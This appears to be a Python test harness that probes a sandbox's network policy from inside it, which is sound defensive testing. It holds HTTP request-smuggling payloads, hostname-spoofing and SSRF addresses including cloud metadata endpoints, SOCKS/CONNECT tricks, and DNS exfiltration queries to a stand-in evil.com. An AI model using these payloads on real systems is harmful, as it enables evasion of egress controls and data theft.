#!/usr/bin/python3
"""Attacks on the network of a sandbox, to be run inside of it: netattack.py POLICY [ROW...]

Prints a line of JSON for each row: {"row": NAME, "results": {VARIANT: [VERDICT, DETAIL]}}. A verdict is
`through` (DETAIL is the evidence), `refused`, `hung`, `cannot` (the attack needs what is not here, such as a proxy), or
`ask` (whether DETAIL, a marker, has reached a server outside is for the caller to find out).

The servers are those of netlab.py, NAMES are to be added to its DNS. What a policy allows is in POLICIES. The same
rows are run without a sandbox, where those with `outside` must get through, and in other sandboxes
(tests/escape/compare_network.py). The proxies of a sandbox are found by http_proxy and all_proxy.
"""

import array
import ctypes
import errno
import json
import os
import random
import re
import socket
import struct
import subprocess
import sys
import urllib.parse
import urllib.request

from netways import (
    Ask,
    Cannot,
    EVIL,
    HELLOS,
    TIMEOUT,
    addresses,
    any_socket,
    any_way,
    ask_tcp,
    ask_udp,
    connect_by_proxy,
    connect_by_socks,
    get,
    get_name,
    hello,
    http_get,
    is_answer,
    leads_to_evil,
    login,
    query,
    raw,
    read_all,
    records,
    resolver,
    server_name,
    socks_request,
    summary,
    tcp,
    tls,
    tls_to,
    to_proxy,
    upstream,
    vector,
)

WEB, WEB6 = "93.184.216.34", "2606:2800:220:1::1"
HOST, HOST6, GATEWAY, LOOPBACK = "192.0.2.2", "2606:2800:ffff::2", "192.0.2.1", 8081
INSIDE = not os.environ.get("NETATTACK_OUTSIDE")  # else only what must get through there

POLICIES = {
    "allow": {"net": "allow", "allow": ["allowed.com", "*.example.com"]},
    "public": {"net": "public", "deny": ["evil.com"]},
    "inspect": {"net": "allow", "allow": ["allowed.com inspect"]},
    "none": {"net": "none"},
}
# Addresses that only a rule may open, and the names that lead there.
SPECIAL = {
    "loopback": "127.0.0.1",
    "loopback2": "127.9.9.9",
    "own": HOST,
    "own6": HOST6,
    "gateway": GATEWAY,
    "private10": "10.0.0.5",
    "private172": "172.16.0.5",
    "private192": "192.168.0.5",
    "cgnat": "100.64.0.1",
    "link-local": "169.254.0.5",
    "metadata": "169.254.169.254",
    "metadata-azure": "168.63.129.16",
    "metadata-alibaba": "100.100.100.200",
    "metadata6": "fd00:ec2::254",
    "this-host": "0.0.0.0",
    "this-host6": "::",
    "loopback6": "::1",
    "benchmark": "198.18.0.9",
    "reserved": "240.0.0.5",
    "private6": "fd00::5",
    "site-local6": "fec0::5",
    "mapped-loopback": "::ffff:127.0.0.1",
    "mapped-private": "::ffff:10.0.0.5",
    "compatible-private": "::10.0.0.5",
    "6to4-private": "2002:a00:5::1",
    "nat64-private": "64:ff9b::a00:5",
    "nat64-loopback": "64:ff9b::7f00:1",
}
NAMES = {name + ".example.com": [address] for name, address in SPECIAL.items()}
NAMES.update({
    "later-private.example.com": [[WEB], ["10.0.0.5"]],
    "later-loopback.example.com": [[WEB], ["127.0.0.1"]],
    "first-public.example.com": [WEB, "127.0.0.1"],
    "first-private.example.com": ["127.0.0.1", WEB],
    "other-family.example.com": [WEB, "::1"],
    "allowed.com": [WEB],
})  # fmt: skip
# Those where no TCP server can answer, even outside.
DEAD = {"nat64-loopback"}

# Parts of the names in queries that only servers outside can tell of.
MARKERS = ["exfil-", ".113.0.203.in-addr.arpa"]

ROWS = {}


def row(policy, case, title, outside=True):
    """The function yields (variant, call) or (variant, call, outside). call returns evidence, or something false."""

    def add(function):
        name = function.__name__.replace("_", "-").strip("-")
        ROWS[name] = {"policy": policy, "case": case, "title": title, "call": function, "outside": outside}
        return function

    return add


def program():
    """Both files as one, for the command line of a sandbox that shows none of them."""
    here = os.path.dirname(os.path.abspath(__file__))
    parts = []
    for name in ("netways.py", "netattack.py"):
        with open(os.path.join(here, name), encoding="utf-8") as f:
            parts.append(f.read())
    return parts[0] + re.sub(r"from netways import \(.*?\n\)\n", "", parts[1], flags=re.S)


# ---- the rows: nothing is allowed but allowed.com and *.example.com

# Names that a sloppy reader takes for an allowed one.
LOOKALIKES = [
    b"evil.com", b"EVIL.com.", b"sub.evil.com", b"evilallowed.com", b"allowed.com.evil.com", b"xallowed.com",
    b"evil.com\0.allowed.com", b"allowed.com\0.evil.com", b"evil.com\0allowed.com", b"evil.com%00.example.com",
    b"evil.com#.example.com", b"evil.com#allowed.com", b"evil.com?.example.com", b"evil.com/.example.com",
    b"evil.com\\.example.com", b"allowed.com@evil.com", b"evil.com@allowed.com", b"allowed.com evil.com",
    b"evil.com .example.com", b"\tevil.com", b"evil.com\t", b"evil.com,allowed.com", b"evil.com;.example.com",
    b"evil.com:80.example.com", "\u0430llowed.com".encode(), "allow\u0435d.com".encode(),
    "evil\u3002com".encode(), "\uff45vil.com".encode(), "evil.com\u2024example.com".encode(),
    b"_.evil.com", b"*.evil.com", b"..evil.com", b"evil..com", b".example.com", b"example.com",
    b"a" * 64 + b".example.com", b"a." * 125 + b"example.com", b"evil.com\r\n.example.com",
    b"evil.com\n.example.com", b"\xff\xfe.example.com", b"%65vil.com", b"xn--example.com",
]  # fmt: skip
REAL = {b"evil.com", b"EVIL.com.", b"sub.evil.com", b"evilallowed.com", b"allowed.com.evil.com"}

# Ways to write an address, mostly of the host's loopback or of a server that is not listed.
SPELLINGS = [
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "0",
    "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::1%lo]", "[0:0:0:0:0:0:0:1]", "::1",
    "localhost", "LOCALHOST", "localhost.", "sub.localhost", "ip6-localhost", "localhost.localdomain",
    "127.0.0.1.nip.io", HOST, "[%s]" % HOST6, "[::ffff:192.0.2.2]", "host.docker.internal", "host.containers.internal",
    "gateway.docker.internal", "metadata.google.internal",
]  # fmt: skip


@row("allow", 45, "connect without asking a proxy")
def direct(outside_root=os.geteuid() == 0):
    yield "v4", lambda: get(EVIL)
    yield "v6", lambda: get(WEB6)
    yield "mapped", lambda: get("::ffff:" + EVIL)
    yield "address-of-allowed-name", lambda: get(WEB)
    yield "metadata", lambda: get("169.254.169.254")
    yield "private", lambda: get("10.0.0.5")
    yield "udp", lambda: ask_udp(WEB, b"x", 7007) == b"x" and "echoed"
    yield "quic", lambda: ask_udp(EVIL, b"\xc0" + os.urandom(1199), 443) and "echoed"
    yield "udp-to-multicast", lambda: datagram("224.0.0.251", 5353), False
    yield "udp-to-broadcast", lambda: datagram("255.255.255.255", 67), False
    yield "fastopen", fastopen
    yield "icmp", ping, outside_root


def datagram(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return s.sendto(b"x", (address, port)) and "sent"


def fastopen():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", int(TIMEOUT), 0))
        s.sendto(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", 0x20000000, (EVIL, 80))
        data = read_all(s)
    return summary(data) if is_answer(data) else None


def ping():
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as s:
                s.settimeout(TIMEOUT)
                body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"ping"
                total = sum(struct.unpack("!6H", body))
                total = (total >> 16) + (total & 0xFFFF)
                s.sendto(body[:2] + struct.pack("!H", ~total & 0xFFFF) + body[4:], (EVIL, 0))
                while True:
                    data, who = s.recvfrom(2048)
                    if who[0] == EVIL:
                        return "an echo from " + who[0]
        except PermissionError as e:
            refused = e
    raise refused


@row("allow", 46, "names that look like allowed ones, by DNS")
def names_in_queries():
    for name in LOOKALIKES:
        labels = [part for part in name.split(b".") if part and len(part) < 64]
        yield show(name), lambda q=query(labels), n=name: leads_to_evil(ask_udp(resolver(), q), n), name in REAL
    for labels in ([b"evil.com", b"example", b"com"], [b"evil\0", b"com"], [b"allowed.com"], [b"evil.com\0", b"allowed", b"com"]):
        yield "labels %r" % labels, lambda q=query(labels): leads_to_evil(ask_udp(resolver(), q), b"evil.com"), False


def show(name):
    return repr(name)[2:-1][:60]


@row("allow", 46, "names that look like allowed ones, as Host of an allowed connection")
def names_as_host():
    for name in LOOKALIKES + [b"127.0.0.1", b"[::1]", b"allowed.com:81", b"allowed.com:80:80", b"allowed.com:", b""]:
        yield show(name), lambda n=name: by_host(n), name in REAL


def by_host(name):
    with any_socket("allowed.com", 80) as s:
        return http_get(s, name)


@row("allow", 46, "names that look like allowed ones, as server name of TLS")
def names_as_sni():
    for name in LOOKALIKES + [b"", b"127.0.0.1"]:
        yield show(name), lambda n=name: tls_to(records(hello(server_name(n)))), name in REAL


@row("allow", 46, "names that look like allowed ones, in CONNECT", outside=False)
def names_in_connect():
    for name in LOOKALIKES:
        yield show(name), lambda n=name: through_tunnel(connect_by_proxy(n + b":80"), n)
    yield "two-hosts", lambda: through_tunnel(connect_by_proxy(b"evil.com:80", b"Host: allowed.com:80\r\n"), b"evil.com")
    yield "two-ports", lambda: through_tunnel(connect_by_proxy(b"allowed.com:443:80"), b"allowed.com")
    yield "user", lambda: through_tunnel(connect_by_proxy(b"allowed.com:80@evil.com:80"), b"evil.com")
    yield "a-url", lambda: through_tunnel(connect_by_proxy(b"http://allowed.com@evil.com:80/"), b"evil.com")


def through_tunnel(s, name):
    with s:
        return http_get(s, name)


@row("allow", 46, "names that look like allowed ones, in absolute URLs to a proxy", outside=False)
def names_in_urls():
    for name in LOOKALIKES:
        yield show(name), lambda n=name: by_url(n, n)
    yield "host-says-allowed", lambda: by_url(b"evil.com", b"allowed.com")
    yield "url-says-allowed", lambda: by_url(b"allowed.com", b"evil.com")
    yield "user", lambda: by_url(b"allowed.com@evil.com", b"evil.com")
    yield "backslash", lambda: by_url(b"evil.com\\@allowed.com", b"evil.com")


def by_url(authority, host):
    s, who = to_proxy("http")
    with s:
        s.sendall(b"GET http://" + authority + b"/ HTTP/1.1\r\nHost: " + host + b"\r\n" + login(who)
                  + b"Connection: close\r\n\r\n")  # fmt: skip
        data = read_all(s)
    found = summary(data) if is_answer(data) else ""
    # A proxy may write the Host of the URL; what counts is whom the server was asked for, and which it was.
    asked = found.rpartition(" for ")[2].split("/")[0].lower()
    return found if found and (EVIL in found or not ("." + asked).endswith((".allowed.com", ".example.com"))) else None


@row("allow", 46, "names that look like allowed ones, by SOCKS", outside=False)
def names_in_socks():
    for name in LOOKALIKES:
        yield show(name), lambda n=name: through_tunnel(connect_by_socks(n, 80), n)


@row("allow", 48, "allowed names that lead to addresses that are not public")
def special_names():
    for name, address in SPECIAL.items():
        port = LOOPBACK if "loopback" in name or name in ("own", "own6", "this-host", "this-host6") else 80
        is_live = name not in DEAD and name not in ("loopback2", "loopback6", "this-host6")
        yield name, lambda n=name + ".example.com", p=port: get_name(n, p), is_live


@row("allow", 49, "names whose address changes, or is of two kinds")
def rebinding():
    yield "later-private", lambda: rebind("later-private", 80, "10.0.0.5")
    yield "later-loopback", lambda: rebind("later-loopback", LOOPBACK, "127.0.0.1")
    yield "second-address", lambda: get_name("first-public.example.com", LOOPBACK)
    yield "first-address", lambda: get_name("first-private.example.com", LOOPBACK)
    yield "other-family", lambda: get_name("other-family.example.com", LOOPBACK), False


def rebind(name, port, wanted):
    for _ in range(4):
        try:
            found = get_name(name + ".example.com", port)
        except OSError:
            found = None
        if found and wanted in found:
            return found
    return None


@row("allow", 51, "TLS that asks for another name than was dialled")
def other_sni():
    for form, make in HELLOS.items():
        yield form, lambda m=make: tls_to(*m(b"evil.com"))
    yield "no-name", lambda: tls_to(records(hello()))
    yield "two-names", lambda: tls_to(records(hello(server_name(b"allowed.com", b"evil.com")))), False
    yield "two-extensions", lambda: tls_to(records(hello(server_name(b"allowed.com"), server_name(b"evil.com")))), False
    large = b"\1" + vector(3, hello(padding=60000, last=[server_name(b"evil.com")])[4:] + bytes(10000))
    yield "larger-than-64k", lambda: tls_to(records(large)), False
    yield "other-port", lambda: tls_to(records(hello(server_name(b"evil.com"))), port=8443)
    yield "plain-bytes-first", lambda: tls_to(b"\r\n" + records(hello(server_name(b"evil.com")))), False
    yield "ssl2", lambda: tls_to(b"\x80\x2e\x01\x03\x01\0\x15\0\0\0\x10" + os.urandom(37)), False


@row("allow", 51, "CONNECT to an allowed name, then TLS for another", outside=False)
def sni_in_tunnels():
    for form, make in HELLOS.items():
        yield "connect-" + form, lambda m=make: tls_in(connect_by_proxy("allowed.com:443"), *m(b"evil.com"))
    yield "connect-no-name", lambda: tls_in(connect_by_proxy("allowed.com:443"), records(hello()))
    yield "socks-plain", lambda: tls_in(connect_by_socks("allowed.com", 443), *HELLOS["plain"](b"evil.com"))
    yield "connect-host", lambda: through_tunnel(connect_by_proxy("allowed.com:80"), b"evil.com")
    yield "socks-host", lambda: through_tunnel(connect_by_socks("allowed.com", 80), b"evil.com")


def tls_in(s, data, piece=0):
    with s:
        return tls(s, data, piece)


EVIL_REQUEST = b"GET /smuggled HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n"
HEAD = b"POST /echo HTTP/1.1\r\nHost: allowed.com\r\n"
# Bytes to an allowed web server, a part of which somebody may take for EVIL_REQUEST. True: this one does.
SMUGGLED = {
    "second-request": (b"GET / HTTP/1.1\r\nHost: allowed.com\r\n\r\n" + EVIL_REQUEST, True),
    "after-post": (HEAD + b"Content-Length: 2\r\n\r\nab" + EVIL_REQUEST, True),
    "cl-te": (HEAD + b"Content-Length: 80\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL_REQUEST, True),
    "te-cl": (HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + EVIL_REQUEST, True),
    "te-unknown": (HEAD + b"Content-Length: 80\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + EVIL_REQUEST, True),
    "te-twice": (HEAD + b"Content-Length: 80\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"
                 + EVIL_REQUEST, True),
    "te-list": (HEAD + b"Content-Length: 80\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n" + EVIL_REQUEST, True),
    "te-blank": (HEAD + b"Content-Length: 80\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + EVIL_REQUEST, False),
    "te-tab": (HEAD + b"Content-Length: 80\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + EVIL_REQUEST, False),
    "te-http10": (b"POST /echo HTTP/1.0\r\nHost: allowed.com\r\nContent-Length: 80\r\nConnection: keep-alive\r\n"
                  b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + EVIL_REQUEST, False),
    "cl-twice": (HEAD + b"Content-Length: 0\r\nContent-Length: 67\r\n\r\n" + EVIL_REQUEST, True),
    "cl-list": (HEAD + b"Content-Length: 0, 67\r\n\r\n" + EVIL_REQUEST, False),
    "cl-sign": (HEAD + b"Content-Length: +0\r\n\r\n" + EVIL_REQUEST, True),
    "cl-fold": (HEAD + b"Content-Length:\r\n 0\r\n\r\n" + EVIL_REQUEST, False),
    "chunk-extension": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n2;a=\nxx\r\nab\r\n0\r\n\r\n" + EVIL_REQUEST, False),
    "chunk-lf": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n2\nab\n0\n\n" + EVIL_REQUEST, False),
    "chunk-large": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n0\r\n\r\n" + EVIL_REQUEST, False),
    "chunk-sign": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + EVIL_REQUEST, True),
    "chunk-0x": (HEAD + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + EVIL_REQUEST, True),
    "get-with-body": (b"GET / HTTP/1.1\r\nHost: allowed.com\r\nContent-Length: 0\r\n\r\n" + EVIL_REQUEST, True),
    "host-twice": (b"GET /smuggled HTTP/1.1\r\nHost: allowed.com\r\nHost: evil.com\r\nConnection: close\r\n\r\n", True),
    "host-twice-reversed": (b"GET /smuggled HTTP/1.1\r\nHost: evil.com\r\nHost: allowed.com\r\nConnection: close\r\n\r\n",
                            True),
    "host-fold": (b"GET /smuggled HTTP/1.1\r\nHost: allowed.com\r\n\tevil.com\r\nConnection: close\r\n\r\n", True),
    "host-blank": (b"GET /smuggled HTTP/1.1\r\nHost : evil.com\r\nHost: allowed.com\r\nConnection: close\r\n\r\n", False),
    "host-cr": (b"GET /smuggled HTTP/1.1\r\nX: y\rHost: evil.com\r\nHost: allowed.com\r\nConnection: close\r\n\r\n", True),
    "host-nul": (b"GET /smuggled HTTP/1.1\r\nHost: evil.com\0allowed.com\r\nConnection: close\r\n\r\n", True),
    "no-host": (b"GET /smuggled HTTP/1.1\r\nConnection: close\r\n\r\n", True),
    "lf-only": (b"GET /smuggled HTTP/1.1\nHost: evil.com\nConnection: close\n\n", True),
    "absolute": (b"GET http://evil.com/smuggled HTTP/1.1\r\nHost: allowed.com\r\nConnection: close\r\n\r\n", False),
    "absolute-https": (b"GET https://allowed.com/smuggled HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n", False),
    "http10": (b"GET /smuggled HTTP/1.0\r\nHost: evil.com\r\n\r\n", True),
    "http09": (b"GET /smuggled\r\n\r\n", False),
    "http2-version": (b"GET /smuggled HTTP/1.2\r\nHost: evil.com\r\nConnection: close\r\n\r\n", True),
    "odd-method": (b"HELLO /smuggled HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n", False),
    "blank-first": (b" GET /smuggled HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n", True),
    "long-line": (b"PROPFIND /smuggled?" + b"x" * 20000 + b" HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n", True),
    "blanks-between": (b"PROPFIND" + b" " * 20000 + b"/smuggled HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n",
                       True),
    "other-blanks": (b"GET\x0b/smuggled\x1cHTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n", True),
    "odd-blank-first": (b"\xa0\x0c" + EVIL_REQUEST, False),
    "lines-first": (b"\r\n\r\n" + EVIL_REQUEST, False),
    "tabs": (b"GET\t/smuggled\tHTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n", True),
    "connect": (b"CONNECT evil.com:80 HTTP/1.1\r\nHost: allowed.com\r\n\r\n" + EVIL_REQUEST, False),
    "websocket": (b"GET / HTTP/1.1\r\nHost: allowed.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n" + EVIL_REQUEST, True),
    "h2c-upgrade": (b"GET / HTTP/1.1\r\nHost: allowed.com\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                    b"HTTP2-Settings: AAMAAABk\r\n\r\n" + EVIL_REQUEST, True),
    "expect": (HEAD + b"Content-Length: 3\r\nExpect: 100-continue\r\n\r\nabc" + EVIL_REQUEST, True),
}  # fmt: skip


@row("allow", 52, "a request for another host inside an allowed HTTP connection")
def smuggling():
    for name, (text, works) in SMUGGLED.items():
        yield name, lambda t=text: raw("allowed.com", 80, t), works
    yield "long-line-in-parts", lambda: raw("allowed.com", 80, SMUGGLED["long-line"][0], cuts=(5, 18000))
    yield "method-in-parts", lambda: raw("allowed.com", 80, b"PROPFIND" + EVIL_REQUEST[3:], cuts=(5,))


def socks_tcp(kind, body, port=80, command=1, reserved=0, version=5):
    return socks_request(bytes([version, command, reserved, kind]) + body + struct.pack("!H", port))


@row("allow", 53, "SOCKS requests that are not what they seem", outside=False)
def socks_strictness():
    evil4, evil6 = socket.inet_aton(EVIL), socket.inet_pton(socket.AF_INET6, "::ffff:" + EVIL)
    yield "ipv4", lambda: through_tunnel(socks_tcp(1, evil4), b"evil.com")
    yield "ipv6-mapped", lambda: through_tunnel(socks_tcp(4, evil6), b"evil.com")
    yield "ipv6", lambda: through_tunnel(socks_tcp(4, socket.inet_pton(socket.AF_INET6, WEB6)), b"x")
    yield "address-as-name", lambda: through_tunnel(connect_by_socks(EVIL, 80), b"evil.com")
    yield "octal-as-name", lambda: through_tunnel(connect_by_socks("0271.0307.0154.0102", 80), b"evil.com")
    yield "number-as-name", lambda: through_tunnel(connect_by_socks("3116854338", 80), b"evil.com")
    yield "udp-associate", lambda: granted(socks_tcp(1, b"\0\0\0\0", 0, command=3))
    yield "bind", lambda: granted(socks_tcp(1, evil4, command=2))
    yield "resolve", lambda: granted(socks_tcp(3, b"\x08evil.com", 0, command=0xF0))
    yield "command-0", lambda: granted(socks_tcp(3, b"\x0ballowed.com", command=0))
    yield "no-length", lambda: granted(socks_tcp(3, b"\0"))
    yield "port-0", lambda: granted(socks_tcp(3, b"\x0ballowed.com", 0))
    yield "reserved", lambda: granted(socks_tcp(3, b"\x0ballowed.com", reserved=1))
    yield "long-length", lambda: granted(socks_tcp(3, b"\x0aallowed.com"))
    yield "address-type-5", lambda: granted(socks_tcp(5, b"\x0ballowed.com"))
    yield "version-changes", lambda: granted(socks_tcp(3, b"\x0ballowed.com", version=4))
    yield "socks4", lambda: socks4(b"\x04\x01" + struct.pack("!H", 80) + evil4 + b"\0")
    yield "socks4a", lambda: socks4(b"\x04\x01\0\x50\0\0\0\x01\0evil.com\0")
    yield "nul", lambda: granted(connect_by_socks(b"allowed.com\0.evil.com", 80))
    yield "nul-by-connect", lambda: granted(connect_by_proxy(b"allowed.com\0.evil.com:80"))
    yield "no-method", lambda: granted(socks_request(b"", b""))


def granted(s):
    s.close()
    return "granted"


def socks4(request):
    s, _ = to_proxy("socks")
    with s:
        s.sendall(request)
        return "granted" if s.recv(8)[1:2] == b"\x5a" else None


@row("allow", 55, "a redirect from an allowed host to another")
def redirects():
    for to in ("http://evil.com/", "https://evil.com/", "http://%s/" % EVIL, "http://10.0.0.5/", "http://127.0.0.1:%d/" % LOOPBACK,
               "http://169.254.169.254/latest/meta-data/"):  # fmt: skip
        yield to, lambda t=to: follow("http://allowed.com/redirect?to=" + urllib.parse.quote(t))


def follow(url):
    with urllib.request.urlopen(url, timeout=TIMEOUT) as r:
        data = r.read()
    return summary(data) if is_answer(data) else None


@row("allow", 56, "DNS as a channel")
def dns_channel():
    for name, kind in (("txt", 16), ("null", 10), ("any", 255), ("a", 1), ("mx", 15), ("srv", 33), ("https", 65), ("axfr", 252)):
        marker = "exfil-%s-%d" % (name, random.randrange(10**9))
        yield name, lambda m=marker, k=kind: upstream(m, lambda: ask_udp(resolver(), query(m + ".evil.com", k)))
        marker = "exfil-%s-%d" % (name, random.randrange(10**9))
        if name != "a":
            yield "wildcard-" + name, lambda m=marker, k=kind: upstream(m, lambda: ask_udp(resolver(), query(m + ".example.com", k)))
    marker = "exfil-tcp-%d" % random.randrange(10**9)
    yield "tcp", lambda m=marker: upstream(m, lambda: ask_tcp(resolver(), query(m + ".evil.com", 16)))
    for name, way in (("connect", lambda m: connect_by_proxy(m + ":443")), ("socks", lambda m: connect_by_socks(m, 443))):
        marker = "exfil-%s-%d.evil.com" % (name, random.randrange(10**9))
        yield "by-" + name, lambda m=marker, w=way: upstream(m, lambda: w(m)), False
    label = "exfil-long-%d-" % random.randrange(10**9) + "x" * 40
    yield "long-labels", lambda: upstream(label, lambda: [ask_udp(resolver(), query([label.encode()] * 3 + [b"example", b"com"]))])
    reverse = "%d.113.0.203.in-addr.arpa" % random.randrange(1, 255)
    yield "ptr", lambda: upstream(reverse, lambda: ask_udp(resolver(), query(reverse, 12)))
    for server in ("8.8.8.8", "9.9.9.9"):
        yield "udp-to-" + server, lambda s=server: leads_to_evil(ask_udp(s, query("evil.com")), b"evil.com")
        yield "tcp-to-" + server, lambda s=server: leads_to_evil(ask_tcp(s, query("evil.com")), b"evil.com")
    yield "dot", lambda: tcp("8.8.8.8", 853).close() or "connected"
    yield "doh", lambda: tls_in(tcp("8.8.8.8", 443), records(hello(server_name(b"dns.google"))))
    yield "tcp-53-elsewhere", lambda: tcp_53()


def tcp_53():
    """What is not DNS on its port."""
    with tcp(EVIL, 53) as s:
        s.sendall(b"\0\5hello")
        return s.recv(7) == b"\0\5hello" and "echoed"


@row("allow", 56, "many names below a wildcard")
def many_names():
    yield "long", lambda: count_names(400, "n%d-" + "x" * 45, 200)  # first, since both share a budget
    yield "short", lambda: count_names(3000, "n%d", 2000)


def count_names(count, form, too_many):
    answered = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        s.connect((resolver(), 53))
        s.send(query("deep.down.example.com"))  # which is to work afterwards, too
        s.recv(512)
        for i in range(count):
            s.send(query(form % random.randrange(10**12) + ".example.com"))
            answered += bool(addresses(s.recv(512)))
    return answered > too_many and "%d of %d names have addresses" % (answered, count)


@row("allow", 46, "the name itself under a rule for the names below it")
def apex():
    yield "http", lambda: get_name("example.com")
    yield "tls", lambda: any_way("example.com", 443, lambda s: tls(s, records(hello(server_name(b"example.com")))))


def services(port=LOOPBACK):
    for address in ("127.0.0.1", "127.9.9.9", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1", HOST, "::ffff:" + HOST, HOST6, GATEWAY):
        at = 80 if address == GATEWAY else port
        yield address, lambda a=address, p=at: get(a, p), address not in ("127.9.9.9", "::1", "::")
    for name in ("localhost", "host.docker.internal", "host.containers.internal", "ip6-localhost"):
        yield name, lambda n=name: get_name(n, port), name == "localhost"


@row("allow", 59, "services of the host")
def host_services():
    yield from services()
    for text in SPELLINGS:
        yield "connect-" + text, lambda t=text: through_tunnel(connect_by_proxy("%s:%d" % (t, LOOPBACK)), t), False
        if not text.startswith("["):
            yield "socks-" + text, lambda t=text: through_tunnel(connect_by_socks(t, LOOPBACK), t), False


@row("allow", 14, "a connected socket that the caller left open", outside=False)
def inherited():
    yield "any", use_fds


def use_fds():
    """The program's own files are no sockets."""
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        with s:
            s.settimeout(TIMEOUT)
            found = http_get(s)
        if found:
            return "fd %d: %s" % (fd, found)
    return None


@row("allow", 25, "other families, raw packets and the namespace's own settings", outside=False)
def other_sockets():
    yield "packet", lambda: made(17, socket.SOCK_RAW, 3)
    yield "raw", lambda: made(socket.AF_INET, socket.SOCK_RAW, 255)
    yield "raw6", lambda: made(socket.AF_INET6, socket.SOCK_RAW, 58)
    yield "vsock", lambda: made(40, socket.SOCK_STREAM, 0)
    yield "netfilter", lambda: made(16, socket.SOCK_RAW, 12)
    yield "mptcp", lambda: get_with(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
    yield "sctp", lambda: made(socket.AF_INET, socket.SOCK_STREAM, 132)
    yield "transparent", lambda: option(socket.SOL_IP, 19)
    yield "freebind", lambda: get_with(option_socket(socket.SOL_IP, 15), "8.8.8.8")
    yield "mark", lambda: option(socket.SOL_SOCKET, 36, 7)
    yield "bind-to-device", lambda: get_with(device_socket())
    yield "io-uring", io_uring
    for words in ("link set lo down", "addr add 198.51.100.77/32 dev lo", "route add default dev lo",
                  "route del local default table local", "rule add pref 1 lookup main", "link add x type dummy",
                  "tuntap add x mode tun"):  # fmt: skip
        yield "ip " + words, lambda w=words: ip(w)
    yield "unshare", lambda: tool("unshare", "-Urn", "true")
    yield "sysctl", sysctl


def made(*kind):
    socket.socket(*kind).close()
    return "made"


def option_socket(level, name, value=1):
    s = socket.socket()
    s.setsockopt(level, name, value)
    return s


def option(*args):
    option_socket(*args).close()
    return "set"


def device_socket():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, 25, b"lo\0")
    return s


def get_with(s, source=None):
    with s:
        s.settimeout(TIMEOUT)
        if source:
            s.bind((source, 0))
        s.connect((EVIL, 80))
        return http_get(s)


def io_uring():
    params = array.array("B", bytes(120))
    fd = ctypes.CDLL(None, use_errno=True).syscall(425, 4, ctypes.c_void_p(params.buffer_info()[0]))
    if fd < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    os.close(fd)
    return "set up"


def tool(name, *args):
    for where in ("/usr/sbin/", "/sbin/", "/usr/bin/", "/bin/"):
        if os.access(where + name, os.X_OK):
            done = subprocess.run([where + name, *args], capture_output=True, timeout=TIMEOUT, text=True)
            if done.returncode:
                raise OSError(errno.EPERM, done.stderr.strip()[:100])
            return "done"
    raise Cannot("no " + name)


def ip(words):
    return tool("ip", *words.split())


def sysctl():
    with open("/proc/sys/net/ipv4/ip_forward", "w", encoding="ascii") as f:
        f.write("1")
    return "written"


# ---- everything public is allowed, but evil.com is denied


@row("public", 48, "addresses that are not public")
def special_addresses():
    yield from services()
    for name, address in SPECIAL.items():
        if not name.startswith("own") and "loopback" not in name and not name.startswith("this-host"):  # those are services() above
            yield "%s %s" % (name, address), lambda a=address: get(a)
    yield "multicast", lambda: get("224.0.0.251"), False
    yield "broadcast", lambda: get("255.255.255.255"), False


@row("public", 48, "public names that lead to addresses that are not public")
def special_names_in_public():
    yield from special_names()


@row("public", 49, "names whose address changes, in mode public")
def rebinding_in_public():
    yield from rebinding()


@row("public", 46, "a denied name, called by its address")
def denied_name():
    yield "by-name", lambda: get_name("evil.com")
    yield "host", lambda: get(EVIL, 80, "evil.com")
    yield "host-upper-case", lambda: get(EVIL, 80, "EVIL.COM")
    yield "host-with-dot", lambda: get(EVIL, 80, "evil.com.")
    yield "sni", lambda: tls_in(tcp(EVIL, 443), *HELLOS["plain"](b"evil.com"))
